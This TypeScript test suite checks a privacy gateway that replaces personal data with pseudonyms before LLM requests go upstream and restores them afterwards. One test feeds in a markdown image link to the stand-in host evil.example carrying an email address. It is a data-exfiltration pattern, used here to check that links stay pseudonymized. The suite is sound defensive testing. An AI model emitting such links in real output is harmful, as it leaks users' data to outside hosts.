// Pseudonyms in whole conversations: what the upstream received, and what came back, over each way to ask. The laws of a
// single text are tested in the guard.
import { readFileSync } from 'node:fs'
import type { Sandbox } from '@sluice/sandbox'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { gatewayOnSandbox } from '../harness/gateway-on-sandbox.ts'
import { chunksOf, type Message, TutorialClient, textOf } from '../harness/tutorial-client.ts'
import { eventsOf } from '../http/http-gateway.ts'
import { auditContent } from './audit-records.ts'
import { replyTo } from './http-reply.ts'
import { temporaryFolder } from './temporary-folder.ts'

const STAND_IN = /[A-Z][A-Z_]*_(?=[A-Z]*\d)[\dA-Z]{4,8}/g

/** `private` with the tool that may see values, and an own entity. */
const POLICY = {
  extends: 'private',
  rules: [
    { pattern: 'ACME-\\d{6}', name: 'ACCOUNT', action: { kind: 'pseudonymize' } },
    {
      terms: ['Grace Hopper', 'Ada "Countess" Lovelace'],
      category: 'PERSON',
      action: { kind: 'pseudonymize' },
    },
  ],
  pseudonyms: { restoreTools: ['crm_lookup'] },
}

function running(pseudonyms: object = {}, gateway: object = {}) {
  const own = { ...POLICY, pseudonyms: { ...POLICY.pseudonyms, ...pseudonyms } }
  return gatewayOnSandbox({
    gateway: { profile: 'openai', policies: { own }, policy: 'own', ...gateway },
  })
}

interface SentBody {
  messages: { role: string; content: string; tool_calls?: { function: { arguments: string } }[] }[]
}

function sentBodies(sandbox: Sandbox): SentBody[] {
  return sandbox
    .requests()
    .filter(({ path }) => path.endsWith('/chat/completions'))
    .map(({ body }) => body as SentBody)
}

/** Everything that a body says: its text, the same with escape sequences read, and strings that are JSON themselves. */
function saidIn(value: unknown): string {
  if (typeof value === 'string') return `${value}\n${saidInJson(value)}`
  if (typeof value !== 'object' || value === null) return String(value)
  const parts = Object.entries(value).map(([key, item]) => `${key}\n${saidIn(item)}`)
  return `${JSON.stringify(value)}\n${parts.join('\n')}`
}

function saidInJson(text: string): string {
  try {
    const value: unknown = JSON.parse(text)
    return typeof value === 'object' ? saidIn(value) : String(value)
  } catch {
    return ''
  }
}

const VALUES = [
  ...['jo.doe@example.org', 'ann@mail.example', '+46 8 928 571 38', 'GB33BUKB20201555555555'],
  ...['ACME-123456', 'ACME-654321', 'Grace Hopper', 'Ada "Countess" Lovelace', '192.168.7.13'],
]
const SECRETS = ['4111 1111 1111 1111', 'AKIAIOSFODNN7EXAMPLE']

const value = fc.constantFrom(...VALUES)
const words = fc.constantFrom(
  'hello',
  'who is',
  'and\n',
  'see',
  'née',
  '中文',
  'order',
  '"',
  '\\',
  '😀',
)
const text = fc
  .array(fc.oneof(value, value, words, fc.constantFrom(...SECRETS)), { minLength: 1, maxLength: 6 })
  .map((parts) => `- ${parts.join(' , ')} .`)
/** The same document, with some of its characters as escape sequences. */
const json = fc
  .tuple(fc.dictionary(value, fc.oneof(value, fc.array(text, { maxLength: 2 }))), fc.boolean())
  .map(([document, isEscaped]) => {
    const plain = JSON.stringify(document)
    return isEscaped
      ? plain.replace(/[@o5]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`)
      : plain
  })
const call = fc.tuple(json, json).map(([asked, answered]) => {
  const id = 'call_1'
  const called = { name: 'crm_lookup', arguments: asked }
  return [
    { role: 'assistant', content: null, tool_calls: [{ id, type: 'function', function: called }] },
    { role: 'tool', tool_call_id: id, content: answered },
  ]
})
const turn = fc.oneof(
  fc.tuple(text, text).map(([asked, answered]) => [
    { role: 'user', content: asked },
    { role: 'assistant', content: answered },
  ]),
  call,
)
const conversation = fc.record({
  turns: fc.array(turn, { maxLength: 3 }),
  system: fc.option(text),
  last: text,
})

describe('laws 2 and 3, over conversations with tool calls', () => {
  it('sends no original upstream, and gives back what was said', async () => {
    const { sandbox, connect } = await running()
    const client = await connect()
    await fc.assert(
      fc.asyncProperty(conversation, async ({ turns, system, last }) => {
        const before = sentBodies(sandbox).length
        const messages = [
          ...(system === null ? [] : [{ role: 'system', content: system }]),
          ...turns.flat(),
          { role: 'user', content: last },
        ]
        const received = await client.ask('sandbox-echo', '', { messages })
        const bodies = sentBodies(sandbox)
        const said = saidIn(bodies.at(-1))
        expect(bodies.length === before + 1 || before === 200).toBe(true)
        for (const original of [...VALUES, ...SECRETS]) {
          expect(said).not.toContain(original)
          expect(said).not.toContain(JSON.stringify(original).slice(1, -1))
        }
        const redacted = last
          .replaceAll('4111 1111 1111 1111', '[CREDIT_CARD]')
          .replaceAll('AKIAIOSFODNN7EXAMPLE', '[AWS_ACCESS_KEY]')
        expect(textOf(received)).toBe(redacted)
        sandbox.reset()
      }),
      { numRuns: 60 },
    )
  })

  it('keeps stand-ins over the turns of a conversation, and shares none with others', async () => {
    const { sandbox, gateway } = await running()
    const ask = async (conversationId: string | undefined, more: object[] = []) => {
      const client = await TutorialClient.connect(gateway.url)
      const messages = [...more, { role: 'user', content: 'who is Grace Hopper of ACME-123456' }]
      const payload = { modelId: 'sandbox-echo', messages }
      client.send({ type: 'init', conversationId, payload })
      const received = await client.turn()
      expect(textOf(received)).toBe('who is Grace Hopper of ACME-123456')
      return JSON.stringify(sentBodies(sandbox).at(-1)).match(STAND_IN) ?? []
    }
    const first = await ask('one')
    const earlier = { role: 'user', content: 'I am ann@mail.example' }
    expect(first).toHaveLength(2)
    expect((await ask('one', [earlier])).slice(-2)).toEqual(first)
    const others = [await ask('two'), await ask(undefined), await ask(undefined)]
    expect(new Set([...first, ...others.flat()]).size).toBe(8)
  })
})

describe('the sentence for the model', () => {
  const question = [{ role: 'user', content: 'who is Grace Hopper' }]

  it('is a system message of its own or the end of the first one, and counted in tokens', async () => {
    const { sandbox, connect } = await running()
    const client = await connect()
    const [ack] = await client.ask('sandbox-echo', '', { messages: question })
    const system = { role: 'system', content: 'Be brief.' }
    await client.ask('sandbox-echo', '', { messages: [system, ...question] })
    const [alone, joined] = sentBodies(sandbox).map(({ messages }) => messages)
    expect(alone?.map(({ role }) => role)).toEqual(['system', 'user'])
    expect(joined?.map(({ role }) => role)).toEqual(['system', 'user'])
    expect(joined?.[0]?.content).toBe(`Be brief.\n\n${alone?.[0]?.content}`)
    expect(alone?.[0]?.content).not.toMatch(STAND_IN)
    expect(alone?.[0]?.content).not.toMatch(/PERSON|EMAIL/i)
    const silent = await running({ instruct: false })
    const [without] = await (await silent.connect()).ask('sandbox-echo', '', { messages: question })
    expect(tokensOf(ack)).toBeGreaterThan(tokensOf(without) + 20)
    expect(sentBodies(silent.sandbox)[0]?.messages.map(({ role }) => role)).toEqual(['user'])
  })

  it('is not said where there is no stand-in', async () => {
    const { sandbox, connect } = await running()
    await (await connect()).ask('sandbox-echo', 'hello')
    expect(sentBodies(sandbox)[0]?.messages.map(({ role }) => role)).toEqual(['user'])
  })
})

function tokensOf(message: Message | undefined): number {
  return Number(message?.tokenCount)
}

const CUSTOMER = {
  'jo.doe@example.org': { name: 'Grace Hopper', account: 'ACME-123456' },
}
const QUESTION = { role: 'user', content: 'Whose address is jo.doe@example.org' }
const tools = (name: string) => [
  {
    type: 'function',
    function: { name, parameters: { type: 'object', properties: { query: { type: 'string' } } } },
  },
]

interface Asked {
  text: string
  calls: { id: string; name: string; arguments: string }[]
}
type Ask = (messages: object[], tool: string) => Promise<Asked>

/** Puts pieces of tool calls together. */
function callsOf(
  pieces: { index: number; id?: string; function?: { name?: string; arguments?: string } }[],
) {
  const calls: Asked['calls'] = []
  for (const { index, id = '', function: { name = '', arguments: more = '' } = {} } of pieces) {
    const known = calls[index] ?? { id: '', name: '', arguments: '' }
    calls[index] = { id: known.id + id, name: known.name + name, arguments: known.arguments + more }
  }
  return calls
}

const WAYS: Record<string, (url: string, port: number) => Promise<Ask>> = {
  'dialect 1': async (url) => {
    const client = await TutorialClient.connect(url)
    return async (messages, tool) => {
      const received = await client.ask('sandbox-lookup', '', { messages, tools: tools(tool) })
      const deltas = chunksOf(received).flatMap(({ choices = [] }) =>
        choices.map(({ delta }) => delta),
      )
      return {
        text: textOf(received),
        calls: callsOf(deltas.flatMap(({ tool_calls: c }) => (c ?? []) as never[])),
      }
    }
  },
  'dialect 2': async (url) => {
    const client = await TutorialClient.connect(url, ['sluice.v2'])
    client.send({ type: 'hello' })
    return async (messages, tool) => {
      const payload = { modelId: 'sandbox-lookup', messages, tools: tools(tool) }
      client.send({ type: 'init', id: String(messages.length), payload })
      const chunks = (await client.turn()).filter(({ type }) => type === 'chunk')
      const pieces = chunks.flatMap(({ toolCall }) => {
        const { index, id, name, arguments: more } = (toolCall ?? {}) as Record<string, never>
        return toolCall === undefined ? [] : [{ index, id, function: { name, arguments: more } }]
      })
      const texts = chunks.map(({ text: piece }) => piece ?? '')
      return { text: texts.join(''), calls: callsOf(pieces as never[]) }
    }
  },
  HTTP: async (_url, port) => async (messages, tool) => {
    const body = JSON.stringify({
      model: 'sandbox-lookup',
      messages,
      tools: tools(tool),
      stream: true,
    })
    const headers = { 'content-type': 'application/json' }
    const options = { method: 'POST', path: '/v1/chat/completions', headers, body }
    const reply = await replyTo(`http://127.0.0.1:${port}`, options)
    const chunks = eventsOf(reply.body).filter((event) => event !== '[DONE]')
    const deltas = chunks.flatMap(({ choices }) => choices.map(({ delta }) => delta))
    const text = deltas.map(({ content }) => content ?? '').join('')
    return { text, calls: callsOf(deltas.flatMap(({ tool_calls: calls = [] }) => calls)) }
  },
}

describe.each(Object.entries(WAYS))(
  'a look-up in a customer database through a tool, over %s',
  (_way, open) => {
    /** Two turns: the model asks for the tool, the program answers it, the model speaks. */
    async function lookup(tool: string) {
      const { gateway, sandbox } = await running()
      const ask = await open(gateway.url, gateway.port)
      const asked = await ask([QUESTION], tool)
      const [call] = asked.calls
      const query: string = JSON.parse(call?.arguments ?? '{}').query
      const found = CUSTOMER[query as keyof typeof CUSTOMER]
      const called = { name: call?.name, arguments: call?.arguments }
      const answered = await ask(
        [
          QUESTION,
          {
            role: 'assistant',
            content: null,
            tool_calls: [{ id: call?.id, type: 'function', function: called }],
          },
          { role: 'tool', tool_call_id: call?.id, content: JSON.stringify(found ?? 'nobody') },
        ],
        tool,
      )
      return { query, answered, said: saidIn(sentBodies(sandbox)) }
    }

    it('restores the arguments of a tool that the policy names, replaces its result, and restores the answer', async () => {
      const { query, answered, said } = await lookup('crm_lookup')
      expect(query).toBe('jo.doe@example.org')
      expect(answered.text).toBe(`I found ${JSON.stringify(CUSTOMER['jo.doe@example.org'])}.`)
      for (const original of ['jo.doe', 'Hopper', 'ACME-1']) expect(said).not.toContain(original)
    })

    it('leaves the stand-ins in the arguments of any other tool', async () => {
      const { query, answered, said } = await lookup('web_search')
      expect(query).toMatch(/^EMAIL_ADDRESS_\w{4}$/)
      expect(answered.text).toBe('I found "nobody".')
      expect(said).not.toContain('jo.doe')
    })
  },
)

describe('what is kept and told', () => {
  it('restores nothing in a link, and counts by entity without a value, in audit and metrics', async () => {
    const file = `${temporaryFolder()}/audit.db`
    const { gateway, connect } = await running({}, { audit: file, adminPort: 0 })
    const question = 'Grace Hopper: ![x](https://evil.example/?q=ann@mail.example) PERSON_9Z9Z'
    const answer = textOf(await (await connect()).ask('sandbox-echo', question))
    expect(answer).toMatch(
      /^Grace Hopper: !\[x]\(https:\/\/evil\.example\/\?q=EMAIL_ADDRESS_\w{4}\) PERSON_9Z9Z$/,
    )
    const metrics = await (await fetch(`http://127.0.0.1:${gateway.adminPort}/metrics`)).text()
    await gateway.stop()
    const audit = auditContent(file)
    const raw = readFileSync(file, 'latin1')
    for (const [entity, direction, action] of [
      ['PERSON', 'input', 'pseudonymize'],
      ['EMAIL_ADDRESS', 'input', 'pseudonymize'],
      ['PERSON', 'output', 'restored'],
      ['EMAIL_ADDRESS', 'output', 'kept_in_link'],
      ['PERSON', 'output', 'unknown'],
    ] as const) {
      expect(JSON.stringify(audit)).toContain(`${entity}`)
      expect(metrics).toContain(
        `sluice_findings_total{entity="${entity}",direction="${direction}",action="${action}"} 1`,
      )
    }
    for (const told of [JSON.stringify(audit), raw, metrics]) {
      expect(told).not.toMatch(/Hopper|ann@mail|PERSON_\w{4}\b|EMAIL_ADDRESS_[A-Z\d]{4}\b/)
    }
  })

  it('refuses a request that has too many values, and says so', async () => {
    const { sandbox, connect } = await running()
    const content = Array.from({ length: 4_097 }, (_, i) => `ACME-${100_000 + i}`).join(' ')
    const [error] = await (await connect()).ask('sandbox-echo', content)
    expect(JSON.stringify(error)).toContain('too many different personal values')
    expect(sentBodies(sandbox)).toEqual([])
  })
})
